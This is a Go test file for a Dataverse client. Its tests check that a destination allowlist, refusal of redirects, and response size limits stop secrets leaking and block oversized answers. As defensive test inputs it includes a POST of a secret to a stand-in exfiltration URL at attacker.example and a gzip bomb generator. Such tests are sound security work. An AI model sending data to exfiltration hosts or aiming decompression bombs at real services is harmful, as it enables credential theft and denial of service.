package dataverse

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
)

// TestDestinationsAreCheckedBeforeAnythingIsSent: a Client for an environment or an
// authority off the allowlists is refused with DestinationNotAllowed, naming the host and
// the flag to change, and the server hears nothing.
func TestDestinationsAreCheckedBeforeAnythingIsSent(t *testing.T) {
	f := newFakeServer(t)
	host := strings.TrimPrefix(f.URL, "https://")
	for _, tc := range []struct {
		name      string
		env, auth []string
		flag      string
	}{
		{"defaults", nil, nil, FlagAllowedEnvironmentDomains},
		{"environment not listed", []string{"*.dynamics.com"}, []string{"127.0.0.1"}, FlagAllowedEnvironmentDomains},
		{"authority not listed", []string{"127.0.0.1"}, []string{"login.microsoftonline.com"}, FlagAllowedAuthorityHosts},
		{"another port", []string{"127.0.0.1:1"}, []string{"127.0.0.1"}, FlagAllowedEnvironmentDomains},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := testPool(newFakeClock(), func(o *PoolOptions) {
				o.AllowedEnvironmentDomains, o.AllowedAuthorityHosts = tc.env, tc.auth
			})
			_, err := p.Client(f.envURL(), secretCreds(f), f.caPEM())
			if ReasonOf(err) != ReasonDestinationNotAllowed || IsTransient(err) {
				t.Fatalf("Client = %v, want a terminal DestinationNotAllowed", err)
			}
			if msg := err.Error(); !strings.Contains(msg, host) || !strings.Contains(msg, "--"+tc.flag) {
				t.Errorf("error %q does not name the host %s and the flag --%s", msg, host, tc.flag)
			}
			if n := f.requestCount(); n != 0 {
				t.Errorf("the server got %d requests", n)
			}
		})
	}
}

// countingTransport stands in for the network.
type countingTransport struct{ calls atomic.Int32 }

func (c *countingTransport) RoundTrip(*http.Request) (*http.Response, error) {
	c.calls.Add(1)
	return nil, errors.New("the network was reached")
}

// TestTransportRefusesBeforeTheNetwork: every request passes the allowlist first; a
// refused one never reaches the transport below, so no name is looked up and no
// connection made.
func TestTransportRefusesBeforeTheNetwork(t *testing.T) {
	allow, err := ParseAllowlist([]string{"*.dynamics.com"})
	if err != nil {
		t.Fatal(err)
	}
	net := &countingTransport{}
	hc := &http.Client{Transport: guardTransport{next: net, allow: allow, flag: FlagAllowedEnvironmentDomains, what: "environment", maxBody: 10}}
	for _, u := range []string{"https://attacker.example/steal", "http://contoso.crm.dynamics.com:8080/", "https://dynamics.com/"} {
		req, _ := http.NewRequest(http.MethodPost, u, strings.NewReader("secret"))
		resp, err := hc.Do(req)
		if resp != nil {
			_ = resp.Body.Close()
		}
		if ReasonOf(err) != ReasonDestinationNotAllowed {
			t.Errorf("%s: %v, want DestinationNotAllowed", u, err)
		}
	}
	if n := net.calls.Load(); n != 0 {
		t.Errorf("the network was reached %d times", n)
	}
	req, _ := http.NewRequest(http.MethodGet, "https://contoso.crm.dynamics.com/", nil)
	resp, err := hc.Do(req)
	if resp != nil {
		_ = resp.Body.Close()
	}
	if err == nil || net.calls.Load() != 1 {
		t.Errorf("an allowed request did not reach the transport: %v", err)
	}
}

// TestSignInNeverLeavesTheAuthority: a discovery document that points the token request
// at another origin (here another port of an allowed host) fails the sign-in; the other
// origin hears nothing, so the secret stays where it was meant to go.
func TestSignInNeverLeavesTheAuthority(t *testing.T) {
	f := newFakeServer(t)
	elsewhere := newFakeServer(t) // same test certificate, another port
	f.setIntercept(func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasSuffix(r.URL.Path, "/.well-known/openid-configuration") {
			return false
		}
		base := elsewhere.URL + "/" + testTenant
		writeJSON(w, http.StatusOK, map[string]any{
			"issuer": f.URL + "/" + testTenant + "/v2.0", "authorization_endpoint": base + "/oauth2/v2.0/authorize",
			"token_endpoint": base + "/oauth2/v2.0/token",
		})
		return true
	})
	c := f.client(t, testPool(newFakeClock()), secretCreds(f))
	_, err := c.WhoAmI(context.Background())
	if ReasonOf(err) != ReasonDestinationNotAllowed {
		t.Fatalf("WhoAmI = %v, want DestinationNotAllowed", err)
	}
	if !strings.Contains(err.Error(), strings.TrimPrefix(elsewhere.URL, "https://")) {
		t.Errorf("error %q does not name the other host", err)
	}
	if n := elsewhere.requestCount(); n != 0 {
		t.Errorf("the other origin got %d requests", n)
	}
	assertNoSecrets(t, err)
}

// TestRedirectsAreNeverFollowed: a 3xx from Dataverse or the authority is an error naming
// the Location's host, even when that host is allowed; the target hears nothing.
func TestRedirectsAreNeverFollowed(t *testing.T) {
	for _, tc := range []struct {
		name, path string
		status     int
	}{
		{"dataverse", "/org/api/data/v9.0/WhoAmI", http.StatusTemporaryRedirect},
		{"dataverse moved", "/org/api/data/v9.0/WhoAmI", http.StatusMovedPermanently},
		{"token endpoint", "/oauth2/v2.0/token", http.StatusFound},
		{"openid configuration", "/.well-known/openid-configuration", http.StatusFound},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFakeServer(t)
			f.handle(func(w http.ResponseWriter, r *http.Request, body []byte) { ok(whoAmIAnswer)(w) })
			target := newFakeServer(t)
			f.setIntercept(func(w http.ResponseWriter, r *http.Request) bool {
				if !strings.HasSuffix(r.URL.Path, tc.path) {
					return false
				}
				http.Redirect(w, r, target.URL+r.URL.Path, tc.status)
				return true
			})
			c := f.client(t, testPool(newFakeClock()), secretCreds(f))
			_, err := c.WhoAmI(context.Background())
			if ReasonOf(err) != ReasonRedirected || IsTransient(err) {
				t.Fatalf("WhoAmI = %v, want a terminal Redirected", err)
			}
			if !strings.Contains(err.Error(), strings.TrimPrefix(target.URL, "https://")) {
				t.Errorf("error %q does not name the Location's host", err)
			}
			if n := target.requestCount(); n != 0 {
				t.Errorf("the redirect target got %d requests", n)
			}
		})
	}
}

// gzipBomb is a gzip stream of n bytes of JSON-looking text.
func gzipBomb(t *testing.T, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	chunk := bytes.Repeat([]byte("a"), 1<<20)
	_, _ = io.WriteString(zw, `{"UserId":"`)
	for written := 0; written < n; written += len(chunk) {
		if _, err := zw.Write(chunk); err != nil {
			t.Fatal(err)
		}
	}
	_, _ = io.WriteString(zw, `"}`)
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestAnswersAreBounded: an answer of Dataverse or the authority larger than its bound,
// counted after decompression, fails with ResponseTooLarge instead of being read whole or
// cut into something that parses.
func TestAnswersAreBounded(t *testing.T) {
	dataverseBomb := gzipBomb(t, maxSuccessBody+1<<20)
	authorityBomb := gzipBomb(t, maxAuthorityBody+1<<10)
	plain := append(append([]byte(`{"UserId":"`), bytes.Repeat([]byte("a"), maxSuccessBody)...), `"}`...)
	for _, tc := range []struct {
		name, path string
		body       []byte
		gzip       bool
	}{
		{"dataverse gzip bomb", "/org/api/data/v9.0/WhoAmI", dataverseBomb, true},
		{"dataverse plain", "/org/api/data/v9.0/WhoAmI", plain, false},
		{"openid configuration gzip bomb", "/.well-known/openid-configuration", authorityBomb, true},
		{"token gzip bomb", "/oauth2/v2.0/token", authorityBomb, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFakeServer(t)
			f.setIntercept(func(w http.ResponseWriter, r *http.Request) bool {
				if !strings.HasSuffix(r.URL.Path, tc.path) {
					return false
				}
				w.Header().Set("Content-Type", "application/json")
				if tc.gzip {
					w.Header().Set("Content-Encoding", "gzip")
				}
				_, _ = w.Write(tc.body)
				return true
			})
			c := f.client(t, testPool(newFakeClock()), secretCreds(f))
			_, err := c.WhoAmI(context.Background())
			if ReasonOf(err) != ReasonResponseTooLarge {
				t.Fatalf("WhoAmI = %v, want ResponseTooLarge", err)
			}
		})
	}
}

// TestLimitedBody reads exactly up to the limit, and fails one byte past it.
func TestLimitedBody(t *testing.T) {
	for _, tc := range []struct {
		size    int
		wantErr bool
	}{{0, false}, {9, false}, {10, false}, {11, true}, {1000, true}} {
		b := &limitedBody{rc: io.NopCloser(bytes.NewReader(make([]byte, tc.size))), remaining: 10, limit: 10}
		data, err := io.ReadAll(b)
		if (err != nil) != tc.wantErr || ReasonOf(err) != map[bool]Reason{true: ReasonResponseTooLarge}[tc.wantErr] {
			t.Errorf("size %d: err = %v", tc.size, err)
		}
		if len(data) > 10 {
			t.Errorf("size %d: read %d bytes past the limit", tc.size, len(data))
		}
	}
}
